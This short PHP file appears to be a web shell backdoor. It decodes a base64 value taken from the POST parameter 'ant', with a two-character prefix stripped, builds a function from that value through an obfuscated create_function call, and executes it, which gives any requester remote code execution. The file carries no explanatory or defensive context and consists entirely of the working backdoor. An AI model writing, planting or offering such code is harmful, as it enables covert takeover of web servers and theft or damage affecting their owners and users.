<?php
$ant = base64_decode(substr($_POST['ant'], 2));
$x = 'create_'.'function';
$f = @$x('', $ant);
$f();
